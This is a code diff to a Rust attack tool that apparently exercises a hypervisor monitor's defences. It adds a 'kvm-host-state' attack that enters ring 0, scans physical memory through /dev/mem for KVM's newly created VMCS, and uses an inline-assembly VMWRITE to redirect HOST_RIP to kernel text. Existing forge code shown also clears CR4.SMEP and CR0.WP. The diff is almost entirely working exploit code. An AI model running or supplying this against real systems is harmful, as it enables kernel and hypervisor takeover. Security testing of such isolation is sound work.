@@ -54,7 +54,10 @@
 //!   - `kvm-l2-map-monitor`: the same with the monitor's last page (from `ihmi.monitor=`), which
 //!     the guest writes;
 //!   - `kvm-l2-vmfunc`: run the probe as a guest that executes VMFUNC (EPTP index 1, the monitor's
-//!     view in L1's list), with a #UD handler that reports the fault and goes on.
+//!     view in L1's list), with a #UD handler that reports the fault and goes on;
+//!   - `kvm-host-state`: take the `forge` foothold in ring 0, start the probe, and once KVM's vCPU
+//!     has its VMCS (a new region in RAM, as for `kvm-vmcs12-region`), VMWRITE its HOST_RIP to the
+//!     address of `_text`.
 //!
 //! Each step is told to L0 on port 0xE9. A blocked write or read stops the guest: it never returns.
 
@@ -91,6 +94,7 @@ fn main() -> ExitCode {
             IhmiAttack::L2Map => kvm_l2_map(None),
             IhmiAttack::L2MapMonitor => kvm_l2_map(Some(&cmdline)),
             IhmiAttack::L2Vmfunc => kvm_l2_vmfunc(),
+            IhmiAttack::HostState => kvm_host_state(&cmdline),
         };
         return match result {
             Ok(()) => ExitCode::SUCCESS,
@@ -384,26 +388,39 @@ fn kvm_text() -> Result<(), String> {
     Ok(())
 }
 
-fn vmcs12_region(cmdline: &str) -> Result<(), String> {
-    /// The VMCS revision identifier VMX reports (IA32_VMX_BASIC, bits 30:0): what KVM writes at the
-    /// start of every VMCS and VMXON region it allocates.
-    fn revision() -> Result<u32, String> {
-        let mut basic = [0u8; 8];
-        File::open("/dev/cpu/0/msr")
-            .and_then(|f| f.read_exact_at(&mut basic, 0x480))
-            .map_err(|e| format!("reading IA32_VMX_BASIC: {e}"))?;
-        Ok(u32::from_le_bytes([basic[0], basic[1], basic[2], basic[3]]) & 0x7fff_ffff)
-    }
-    let k = Kernel::learn()?;
-    let mem = open_mem()?;
-    let monitor = monitor_address(cmdline)?;
-    let revision = revision()?;
+/// The VMCS revision identifier VMX reports (IA32_VMX_BASIC, bits 30:0): what KVM writes at the
+/// start of every VMCS and VMXON region it allocates.
+fn vmcs_revision() -> Result<u32, String> {
+    let mut basic = [0u8; 8];
+    File::open("/dev/cpu/0/msr")
+        .and_then(|f| f.read_exact_at(&mut basic, 0x480))
+        .map_err(|e| format!("reading IA32_VMX_BASIC: {e}"))?;
+    Ok(u32::from_le_bytes([basic[0], basic[1], basic[2], basic[3]]) & 0x7fff_ffff)
+}
+
+/// Starts the L1 VMM's probe and waits (polling RAM, all of it but the monitor's region, through
+/// /dev/mem mappings) until KVM has made its vCPU's VMCS: a page that starts with the VMCS revision
+/// identifier, more of them than before the probe. Returns the probe, the mapped windows and the
+/// regions found (window, offset).
+#[allow(clippy::type_complexity)]
+fn probe_with_vmcs(
+    mem: &File,
+    monitor: u64,
+) -> Result<
+    (
+        std::process::Child,
+        Vec<(u64, PhysPage)>,
+        Vec<(usize, usize)>,
+    ),
+    String,
+> {
+    let revision = vmcs_revision()?;
     // All of RAM but the monitor's region, mapped once: the polling below makes no system call but
     // its sleep.
     let mut windows = Vec::new();
     for (at, next) in ram_windows(monitor)? {
-        let pages = PhysPage::map_range(&mem, at, next - at)
-            .map_err(|e| format!("mapping {at:#x}: {e}"))?;
+        let pages =
+            PhysPage::map_range(mem, at, next - at).map_err(|e| format!("mapping {at:#x}: {e}"))?;
         windows.push((at, pages));
     }
     let regions = |windows: &[(u64, PhysPage)]| -> Vec<(usize, usize)> {
@@ -438,6 +455,13 @@ fn vmcs12_region(cmdline: &str) -> Result<(), String> {
             "no new VMCS region appeared while the probe ran ({before} before)"
         ));
     }
+    Ok((probe, windows, found))
+}
+
+fn vmcs12_region(cmdline: &str) -> Result<(), String> {
+    let k = Kernel::learn()?;
+    let mem = open_mem()?;
+    let (mut probe, windows, found) = probe_with_vmcs(&mem, monitor_address(cmdline)?)?;
     let evil = k.text_va;
     for &(w, offset) in &found {
         let pages = &windows[w].1;
@@ -497,6 +521,60 @@ fn kvm_l2_vmfunc() -> Result<(), String> {
     } else {
         Err(format!("the L1 VMM failed ({status})"))
     }
+}
+
+/// The VMCS field encoding of HOST_RIP (SDM appendix B.4.4).
+const HOST_RIP: u64 = 0x6c16;
+
+fn kvm_host_state(cmdline: &str) -> Result<(), String> {
+    let k = Kernel::learn()?;
+    let mem = open_mem()?;
+    let ring0 = enter_ring0(&k, &mem)?;
+    let (probe, _windows, _found) = match probe_with_vmcs(&mem, monitor_address(cmdline)?) {
+        Ok(p) => p,
+        Err(e) => {
+            ring0.leave(&mem)?;
+            return Err(e);
+        }
+    };
+    // KVM_CREATE_VCPU leaves the vCPU's VMCS current on this (the only) CPU, its host state
+    // written: give it the time to finish (the region appears before), then VMWRITE to it, again
+    // while there is no current VMCS yet (VMfailInvalid).
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    let evil = k.text_va;
+    let mut rflags = u64::MAX;
+    for _ in 0..50 {
+        ring0.set(2, HOST_RIP);
+        ring0.set(3, evil);
+        ring0.set(4, u64::MAX);
+        if let Err(e) = ring0.run(4) {
+            ring0.leave(&mem)?;
+            return Err(e);
+        }
+        rflags = ring0.get(4);
+        if rflags & 1 == 0 {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(1));
+    }
+    ring0.leave(&mem)?;
+    // VMfailInvalid sets CF, VMfailValid ZF.
+    if rflags & 0x41 != 0 {
+        let _ = probe.wait_with_output();
+        return Err(format!("the VMWRITE failed (RFLAGS {rflags:#x})"));
+    }
+    say(&format!(
+        "{}{evil:#x}",
+        ihmi_abi::attack::IHMI_HOST_STATE_LINE
+    ));
+    let status = probe
+        .wait_with_output()
+        .map_err(|e| format!("waiting for the probe: {e}"))?
+        .status;
+    say(&format!(
+        "ihmi-attack: the probe ended after the VMWRITE ({status})"
+    ));
+    Ok(())
 }
 
 fn kernel_text() -> Result<(), String> {
@@ -897,7 +975,8 @@ fn nmi() -> Result<(), String> {
 // handler: `int handler(table, write, buffer, lenp, ppos)`. Position-independent; its data block
 // follows it in the same page. The operation is the data block's first word:
 // 1 = call the gate at word 1 with request word 2 and first argument word 3, the verdict into word 4;
-// 2 = clear CR4.SMEP; 3 = clear CR0.WP. It returns 0 with nothing read.
+// 2 = clear CR4.SMEP; 3 = clear CR0.WP; 4 = VMWRITE word 3 into the current VMCS's field word 2,
+// RFLAGS after it into word 4. It returns 0 with nothing read.
 core::arch::global_asm!(
     r#"
     .section .rodata.ihmi_forge, "a"
@@ -915,6 +994,8 @@ ihmi_forge_code:
     je 2f
     cmp $3, %rdi
     je 3f
+    cmp $4, %rdi
+    je 4f
     jmp 9f
 1:  mov 16(%rax), %rdi
     mov 24(%rax), %rsi
@@ -933,6 +1014,14 @@ ihmi_forge_code:
 3:  mov %cr0, %rax
     btr $16, %rax
     mov %rax, %cr0
+    jmp 9f
+4:  mov 16(%rax), %rdi
+    mov 24(%rax), %rsi
+    vmwrite %rsi, %rdi
+    pushfq
+    pop %rdx
+    lea ihmi_forge_data(%rip), %rcx
+    mov %rdx, 32(%rcx)
 9:  movq $0, (%rbx)
     xor %eax, %eax
     pop %rbx
